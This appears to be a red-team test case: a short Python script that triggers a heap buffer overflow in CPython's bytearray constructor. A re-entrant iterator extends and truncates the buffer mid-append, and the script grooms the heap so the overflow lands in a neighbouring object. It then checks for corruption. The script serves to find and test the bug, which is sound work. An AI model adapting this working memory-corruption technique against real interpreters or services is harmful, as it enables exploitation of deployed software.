# technique: bytearray.__init__(iterable) appends while checking room against its size alone; the iterator extends self and deletes its head (the data's start moves forward, the allocation stays), so the appends write past the buffer into the neighbouring block (red-team pass 66)
# expect: any
N = 415
ba = bytearray()
class It:
    def __init__(self): self.n = 0
    def __iter__(self): return self
    def __next__(self):
        self.n += 1
        if self.n == 1:
            ba.extend(X)            # buffer of N+1 = 416 bytes: takes P's freed block
            del ba[:207]            # size 208 >= 416/2: ob_start += 207, ob_alloc stays 416
        if self.n > 206:
            raise StopIteration
        return 0x41
X = b"x" * N
fill = [bytearray(b"f" * N) for i in range(300)]   # fill partly used 416-byte pools
P = bytearray(b"p" * N)
V = bytearray(b"v" * N)                            # the block right after P's
del P
it = It()
ba.__init__(it)
print(len(ba), "V now starts with", bytes(V[:16]))
if bytes(V[:16]) != b'v' * 16:
    raise RuntimeError('heap overflow: the neighbouring bytearray was overwritten')
